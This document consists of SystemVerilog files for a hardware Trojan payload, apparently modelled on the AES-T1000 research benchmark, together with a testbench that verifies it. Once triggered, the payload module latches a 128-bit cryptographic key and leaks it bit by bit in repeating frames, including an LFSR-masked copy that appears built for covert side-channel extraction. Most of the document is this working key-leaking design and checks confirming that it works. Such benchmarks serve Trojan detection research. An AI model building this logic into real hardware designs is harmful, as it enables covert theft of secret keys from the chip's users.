// File: rtl/trojan_pkg.sv
// trojan_pkg: shared types and defaults for the AES-T1000 Trojan payload blocks.
package trojan_pkg;
    typedef enum logic [1:0] {IDLE, ARMED, SHIFT, GAP} state_e;
    localparam int KEY_W_DEF = 128;
    localparam int LFSR_W_DEF = 16;
    // x^16+x^14+x^13+x^11+1 as a mask over state bits 15,13,12,10
    localparam logic [15:0] LFSR_TAPS = 16'hB400;
    localparam logic [15:0] LFSR_SEED_DEF = 16'hACE1;
endpackage

// File: rtl/trojan_leak_payload_if.sv
// trojan_leak_payload_if: trigger/key inputs and leak outputs of the payload.
interface trojan_leak_payload_if
    import trojan_pkg::*;
#(
    parameter int KEY_W = KEY_W_DEF,
    parameter int LFSR_W = LFSR_W_DEF
);
    logic Tj_Trig;
    logic [KEY_W-1:0] key;
    logic key_valid;
    logic leak_en;
    logic leak_bit;
    logic leak_mod;
    logic [LFSR_W-1:0] lfsr_q;
    logic busy;
    logic [7:0] frame_cnt;
    modport master (
        output Tj_Trig, key, key_valid,
        input leak_en, leak_bit, leak_mod, lfsr_q, busy, frame_cnt
    );
    modport slave (
        input Tj_Trig, key, key_valid,
        output leak_en, leak_bit, leak_mod, lfsr_q, busy, frame_cnt
    );
endinterface

// File: rtl/trojan_lfsr.sv
// trojan_lfsr: Fibonacci LFSR shifting left with feedback into bit 0, advancing on en.
module trojan_lfsr
    import trojan_pkg::*;
#(
    parameter int W = LFSR_W_DEF,
    parameter logic [W-1:0] SEED = W'(LFSR_SEED_DEF),
    parameter logic [W-1:0] TAPS = W'(LFSR_TAPS)
) (
    input  logic clk,
    input  logic rst_n,
    input  logic en_i,
    output logic [W-1:0] state_o
);
    // an all-zero seed would lock the register up, so fall back to 1
    localparam logic [W-1:0] INIT = (SEED == '0) ? W'(1) : SEED;
    logic [W-1:0] lfsr_q;
    always_ff @(posedge clk or negedge rst_n) begin
        if (!rst_n) lfsr_q <= INIT;
        else if (en_i) lfsr_q <= {lfsr_q[W-2:0], ^(lfsr_q & TAPS)};
    end
    assign state_o = lfsr_q;
endmodule

// File: rtl/trojan_leak_payload.sv
// trojan_leak_payload: once triggered, serially leaks the key MSB first, LFSR-masked,
// in KEY_W-cycle frames separated by GAP_CYC idle cycles.
module trojan_leak_payload
    import trojan_pkg::*;
#(
    parameter int KEY_W = KEY_W_DEF,
    parameter int LFSR_W = LFSR_W_DEF,
    parameter logic [LFSR_W-1:0] LFSR_SEED = LFSR_W'(LFSR_SEED_DEF),
    parameter int GAP_CYC = 8
) (
    input logic clk,
    input logic rst_n,
    trojan_leak_payload_if.slave bus
);
    localparam int BW = $clog2(KEY_W);
    localparam int GW = (GAP_CYC > 1) ? $clog2(GAP_CYC) : 1;
    localparam logic [BW-1:0] BIT_LAST = BW'(KEY_W - 1);
    localparam logic [GW-1:0] GAP_LAST = GW'(GAP_CYC - 1);
    state_e state_q;
    logic [KEY_W-1:0] key_sr_q;
    logic [BW-1:0] bit_cnt_q;
    logic [GW-1:0] gap_cnt_q;
    logic [7:0] frame_cnt_q;
    logic [LFSR_W-1:0] lfsr;
    logic shift;
    assign shift = state_q == SHIFT;
    trojan_lfsr #(.W(LFSR_W), .SEED(LFSR_SEED), .TAPS(LFSR_W'(LFSR_TAPS))) u_lfsr (
        .clk(clk),
        .rst_n(rst_n),
        .en_i(shift),
        .state_o(lfsr)
    );
    always_ff @(posedge clk or negedge rst_n) begin
        if (!rst_n) begin
            state_q <= IDLE;
            key_sr_q <= '0;
            bit_cnt_q <= '0;
            gap_cnt_q <= '0;
            frame_cnt_q <= '0;
        end else if (state_q != IDLE && !bus.Tj_Trig) begin
            state_q <= IDLE;
            bit_cnt_q <= '0;
            gap_cnt_q <= '0;
        end else begin
            case (state_q)
                IDLE: if (bus.Tj_Trig) state_q <= ARMED;
                ARMED: if (bus.key_valid) begin
                    key_sr_q <= bus.key;
                    bit_cnt_q <= '0;
                    state_q <= SHIFT;
                end
                SHIFT: begin
                    // rotating keeps the key intact for the next frame
                    key_sr_q <= {key_sr_q[KEY_W-2:0], key_sr_q[KEY_W-1]};
                    bit_cnt_q <= bit_cnt_q + 1'b1;
                    if (bit_cnt_q == BIT_LAST) begin
                        state_q <= GAP;
                        gap_cnt_q <= '0;
                        if (frame_cnt_q != 8'hFF) frame_cnt_q <= frame_cnt_q + 1'b1;
                    end
                end
                GAP: if (gap_cnt_q == GAP_LAST) begin
                    state_q <= SHIFT;
                    gap_cnt_q <= '0;
                    bit_cnt_q <= '0;
                    if (bus.key_valid) key_sr_q <= bus.key;
                end else begin
                    gap_cnt_q <= gap_cnt_q + 1'b1;
                end
                default: state_q <= IDLE;
            endcase
        end
    end
    assign bus.leak_en = shift;
    assign bus.leak_bit = shift & key_sr_q[KEY_W-1];
    assign bus.leak_mod = shift & (key_sr_q[KEY_W-1] ^ lfsr[0]);
    assign bus.lfsr_q = lfsr;
    assign bus.busy = state_q != IDLE;
    assign bus.frame_cnt = frame_cnt_q;
endmodule

// File: tb/tb_trojan_leak_payload.sv
// tb_trojan_leak_payload: scoreboard bench; expected leak bits are queued when a key is
// committed and popped on every leak_en cycle alongside an LFSR reference.
module tb_trojan_leak_payload;
    localparam logic [127:0] K1 = 128'h000102030405060708090a0b0c0d0e0f;
    localparam logic [127:0] K2 = 128'h8123456789abcdeffedcba9876543210;
    localparam logic [127:0] KONES = {128{1'b1}};
    localparam logic [15:0] SEED = 16'hACE1;
    logic clk;
    logic rst_n;
    int checks;
    int errors;
    logic sb[$];
    logic exp_b;
    logic [15:0] ref_lfsr;
    logic mon_on;
    trojan_leak_payload_if bus ();
    trojan_leak_payload dut (
        .clk(clk),
        .rst_n(rst_n),
        .bus(bus.slave)
    );
    initial clk = 1'b0;
    always #5 clk = ~clk;
    task automatic check(input string tag, input logic [127:0] got, input logic [127:0] exp);
        checks++;
        if (got !== exp) begin
            errors++;
            $display("FAIL %s got=%0h exp=%0h", tag, got, exp);
        end
    endtask
    function automatic logic [15:0] lfsr_step(input logic [15:0] x);
        return {x[14:0], x[15] ^ x[13] ^ x[12] ^ x[10]};
    endfunction
    task automatic push_key(input logic [127:0] k);
        for (int i = 127; i >= 0; i--) sb.push_back(k[i]);
    endtask
    task automatic cyc(input int n);
        repeat (n) begin
            @(posedge clk);
            #2;
        end
    endtask
    always @(negedge clk) begin
        if (rst_n && mon_on) begin
            if (bus.leak_en) begin
                if (sb.size() == 0) begin
                    check("sb_underflow", 1, 0);
                end else begin
                    exp_b = sb.pop_front();
                    check("leak_bit", bus.leak_bit, exp_b);
                    check("leak_mod", bus.leak_mod, exp_b ^ ref_lfsr[0]);
                    check("lfsr_shift", bus.lfsr_q, ref_lfsr);
                end
                ref_lfsr = lfsr_step(ref_lfsr);
            end else begin
                check("lfsr_hold", bus.lfsr_q, ref_lfsr);
                check("quiet_out", {bus.leak_bit, bus.leak_mod}, 2'b00);
            end
        end
    end
    initial begin
        int acc;
        logic [15:0] first16;
        checks = 0;
        errors = 0;
        mon_on = 1'b0;
        ref_lfsr = SEED;
        rst_n = 1'b0;
        bus.Tj_Trig = 1'b0;
        bus.key = '0;
        bus.key_valid = 1'b0;
        cyc(3);
        check("rst_leak", {bus.leak_en, bus.leak_bit, bus.leak_mod, bus.busy}, 4'b0000);
        check("rst_lfsr", bus.lfsr_q, SEED);
        check("rst_frames", bus.frame_cnt, 8'h00);
        rst_n = 1'b1;
        mon_on = 1'b1;
        acc = 0;
        for (int i = 0; i < 200; i++) begin
            cyc(1);
            acc += int'(bus.leak_en) + int'(bus.busy);
        end
        check("idle_quiet", acc, 0);
        bus.Tj_Trig = 1'b1;
        bus.key = K1;
        cyc(1);
        check("armed_busy", bus.busy, 1'b1);
        cyc(1);
        check("armed_wait", bus.leak_en, 1'b0);
        bus.key_valid = 1'b1;
        push_key(K1);
        cyc(1);
        bus.key_valid = 1'b0;
        check("first_leak", bus.leak_en, 1'b1);
        first16 = '0;
        for (int i = 0; i < 16; i++) begin
            first16 = {first16[14:0], bus.leak_bit};
            cyc(1);
        end
        check("first16", first16, 16'h0001);
        cyc(112);
        check("gap_entry", bus.leak_en, 1'b0);
        check("frame1", bus.frame_cnt, 8'd1);
        push_key(K1);
        acc = 0;
        for (int i = 0; i < 8; i++) begin
            acc += int'(bus.leak_en);
            cyc(1);
        end
        check("gap_quiet", acc, 0);
        check("gap_len", bus.leak_en, 1'b1);
        cyc(40);
        bus.Tj_Trig = 1'b0;
        cyc(1);
        check("drop_busy", {bus.busy, bus.leak_en}, 2'b00);
        check("drop_frames", bus.frame_cnt, 8'd1);
        sb.delete();
        bus.Tj_Trig = 1'b1;
        bus.key_valid = 1'b1;
        bus.key = K2;
        cyc(1);
        bus.key_valid = 1'b0;
        check("same_cycle", {bus.busy, bus.leak_en}, 2'b10);
        cyc(1);
        check("rearm_wait", bus.leak_en, 1'b0);
        bus.key_valid = 1'b1;
        push_key(K2);
        cyc(1);
        bus.key_valid = 1'b0;
        check("restart_msb", {bus.leak_en, bus.leak_bit}, 2'b11);
        cyc(10);
        bus.key = KONES;
        bus.key_valid = 1'b1;
        cyc(1);
        bus.key_valid = 1'b0;
        cyc(117);
        check("frame2", bus.frame_cnt, 8'd2);
        cyc(7);
        bus.key_valid = 1'b1;
        push_key(KONES);
        cyc(1);
        bus.key_valid = 1'b0;
        check("reload", {bus.leak_en, bus.leak_bit}, 2'b11);
        cyc(50);
        #1;
        rst_n = 1'b0;
        ref_lfsr = SEED;
        sb.delete();
        #1;
        check("async_rst", {bus.leak_en, bus.leak_bit, bus.leak_mod, bus.busy}, 4'b0000);
        check("async_lfsr", bus.lfsr_q, SEED);
        check("async_frames", bus.frame_cnt, 8'h00);
        cyc(2);
        rst_n = 1'b1;
        acc = 0;
        for (int i = 0; i < 20; i++) begin
            cyc(1);
            acc += int'(bus.leak_en);
        end
        check("no_resume", acc, 0);
        check("post_rst_armed", bus.busy, 1'b1);
        mon_on = 1'b0;
        bus.key_valid = 1'b1;
        cyc(1);
        bus.key_valid = 1'b0;
        cyc(128 + 136 * 254);
        check("pre_sat", bus.frame_cnt, 8'hFF);
        cyc(272);
        check("sat", bus.frame_cnt, 8'hFF);
        $display("CHECKS %0d ERRORS %0d", checks, errors);
        $finish;
    end
endmodule
